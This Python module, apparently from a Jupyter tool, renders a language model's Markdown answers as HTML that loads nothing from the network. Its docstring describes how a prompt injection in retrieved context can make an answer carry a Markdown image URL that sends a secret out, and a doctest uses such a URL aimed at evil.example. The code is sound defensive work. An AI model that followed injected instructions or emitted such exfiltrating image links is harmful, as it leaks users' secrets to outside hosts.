"""Model output is untrusted text: it is shown so that showing it loads nothing from the network.

    >>> answer_html("See ![chart](https://evil.example/?q=secret) <img src=x>")
    '<div class="lfwb-answer mathjax_ignore tex2jax_ignore"><p>See <span class="lfwb-image">🖼 chart (image not loaded: <code>https://evil.example/?q=secret</code>)</span> &lt;img src=x&gt;</p>&#10;</div>'
    >>> text_html("a <b>")                  # plain text: escaped, kept as written
    '<div class="lfwb-text mathjax_ignore tex2jax_ignore" style="white-space:pre-wrap">a &lt;b&gt;</div>'

An answer holds whatever a prompt injection (say, in a retrieved context) asked for, and a
notebook shows Markdown with raw HTML and images from anywhere: `![](https://evil/?q=<secret>)`
would send the secret as the cell renders. So no face emits a model's text as text/markdown.
`answer_html` renders it here, to text/html, with one CommonMark parser (markdown-it-py, imported
on first use): raw HTML is shown as text, an image becomes a line naming its URL (never an
`<img>`), fenced code keeps its content (escaped), and links stay links (only http, https, mailto
and relative ones; opened in a new tab, without a referrer). The HTML has no line breaks
(`one_line`), so it stays one HTML block in nbconvert's Markdown too. Markdown rewritten to be
safe was not an option: it must agree with every renderer on where code ends, and they differ
(JupyterLab's marked reads a backtick in a bare URL as part of it, CommonMark as code; a list
item ends a fence that a reader of the top level alone keeps open).

MathJax typesets HTML outputs and widgets too, and its `\\style`, `\\bbox` and `\\mmlToken` take
CSS (JupyterLab 4's MathJax drops a `url()` in it; nbconvert's MathJax 2 need not): everything
here sits in an element with the classes MathJax skips (`mathjax_ignore` in JupyterLab and
Notebook 7, `tex2jax_ignore` in MathJax 2), so math shows as its TeX source. Tables that show
stored text use `NO_MATH` the same way.
"""

from __future__ import annotations

import html
import re
from functools import lru_cache
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from markdown_it import MarkdownIt

NO_MATH = "mathjax_ignore tex2jax_ignore"
# Past this many characters an answer is shown as plain text: markdown-it-py takes 2-3 ms a KB of
# a typical answer but about 30 µs a character of hostile input (thousands of `![`: 2 s at this
# size), and the kernel waits for it.
MARKDOWN_LIMIT = 64_000
SHOWN_URL = 200  # a data: URI's base64 is not worth a screenful
_SAFE_LINK = re.compile(r"(?:https?|mailto):", re.I)
_SCHEME = re.compile(r"[a-z][a-z0-9+.-]*:", re.I)


def answer_html(text: str, *, heading: str | None = None, note: str | None = None) -> str:
    """A model's Markdown answer as HTML that loads nothing; `heading` (bold, above) and `note`
    (italic, under a rule) are plain text, escaped."""
    body = _answer_body(text)
    top = f"<p><b>{escape(heading)}</b></p>" if heading else ""
    bottom = f"<hr><p><em>{escape(note)}</em></p>" if note else ""
    return f'<div class="lfwb-answer {NO_MATH}">{top}{body}{bottom}</div>'


@lru_cache(maxsize=64)
def _answer_body(text: str) -> str:
    """Cached: the chat panel shows a session's whole history again after each turn."""
    if len(text) > MARKDOWN_LIMIT:
        return f'<div style="white-space:pre-wrap">{escape(text)}</div>'
    return one_line(_markdown().render(text))


def text_html(text: str, style: str = "white-space:pre-wrap") -> str:
    """Untrusted plain text as HTML: escaped, in an element MathJax skips. `style` is lfwb's own."""
    return f'<div class="lfwb-text {NO_MATH}" style="{style}">{escape(text)}</div>'


def escape(text: str) -> str:
    """Text for an HTML element or attribute: escaped, and on one line (see `one_line`)."""
    return one_line(html.escape(text))


def one_line(markup: str) -> str:
    """HTML with its line breaks as character references: it shows the same, and has no blank
    line, which in a Markdown file (nbconvert --to markdown) would end the HTML block and let
    the answer's text after it be read as Markdown, images and all."""
    return markup.replace("\r", "&#13;").replace("\n", "&#10;")


@lru_cache(maxsize=1)
def _markdown() -> MarkdownIt:
    from markdown_it import MarkdownIt

    class SafeMarkdown(MarkdownIt):
        def validateLink(self, url: str) -> bool:
            return _link_allowed(url)

    md = SafeMarkdown("commonmark", {"html": False, "linkify": False, "typographer": False})
    md.enable(["table", "strikethrough"])
    md.add_render_rule("image", _image)
    md.add_render_rule("link_open", _link_open)
    return md


def _link_allowed(url: str) -> bool:
    """Links (and autolinks) to the web, mail or a relative path; not javascript:, data:, file:..."""
    url = re.sub(r"[\x00-\x20]", "", url)  # browsers drop these inside a scheme ("java\tscript:")
    return bool(_SAFE_LINK.match(url)) or not _SCHEME.match(url)


def _image(renderer: Any, tokens: list, idx: int, options: Any, env: Any) -> str:
    """An image as a visible line of text with its URL, so nothing is fetched."""
    token = tokens[idx]
    alt = renderer.renderInlineAsText(token.children or [], options, env)
    src = token.attrGet("src") or ""
    if len(src) > SHOWN_URL:
        src = src[: SHOWN_URL - 1] + "…"
    label = f"🖼 {alt} " if alt else "🖼 "
    return f'<span class="lfwb-image">{escape(label)}(image not loaded: <code>{escape(src)}</code>)</span>'


def _link_open(renderer: Any, tokens: list, idx: int, options: Any, env: Any) -> str:
    tokens[idx].attrSet("target", "_blank")
    tokens[idx].attrSet("rel", "noopener noreferrer nofollow")
    return renderer.renderToken(tokens, idx, options, env)
